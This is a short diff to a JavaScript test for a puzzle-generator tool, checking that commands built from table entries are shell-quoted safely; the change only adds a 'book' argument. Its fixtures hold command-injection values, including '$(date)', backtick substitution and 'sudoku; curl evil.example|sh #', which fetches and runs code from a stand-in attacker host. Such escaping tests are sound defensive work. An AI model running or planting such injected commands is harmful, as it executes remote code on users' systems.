@@ -33,7 +33,7 @@ describe('commands of a table', () => {
       shape: '9x9 $(date)',
       order: 'stars=`date`,min&imal',
     }
-    const [command] = commandsOf([piece(1, { order: hostile, run: "it's", number: 0, seed: "it's/0" })])
+    const [command] = commandsOf([piece(1, { order: hostile, run: "it's", number: 0, seed: "it's/0" })], book)
     expect(command).toBe(
       "puzzlewright generate 'sudoku; curl evil.example|sh #' --shape '9x9 $(date)' --stars '`date`' '--min&imal' -n 1 --seed 'it'\\''s'",
     )
